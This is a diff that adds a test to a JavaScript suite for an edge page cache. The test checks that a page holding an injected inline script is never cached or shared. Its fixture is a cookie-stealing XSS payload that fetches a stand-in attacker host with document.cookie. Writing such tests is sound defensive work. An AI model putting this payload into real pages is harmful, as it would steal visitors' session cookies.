@@ -58,6 +58,22 @@ describe("edge cache for listing, product and search pages", () => {
     expect(second.response.headers.get("Cache-Control")).toBe("private, no-cache");
   });
 
+  it("never shares a page holding an inline script the app did not emit", async () => {
+    edition = `<script>fetch("//evil.example/?" + document.cookie)</script>`;
+    try {
+      await bumpCatalogVersion(env.KV);
+      for (let i = 0; i < 2; i++) {
+        const { response, cspNonce } = await get("/category-rings?page=7");
+        expect(response.headers.get("X-Page-Cache")).toBe("MISS");
+        // Its own render answers with this request's nonce, which the injected script lacks.
+        expect(cspNonce).toBeDefined();
+        expect(response.headers.get("Content-Security-Policy")).not.toContain("sha256-");
+      }
+    } finally {
+      edition = "first";
+    }
+  });
+
   it("keys by URL, language and currency", async () => {
     await bumpCatalogVersion(env.KV);
     expect((await get("/product-ring-p1.html")).response.headers.get("X-Page-Cache")).toBe("MISS");
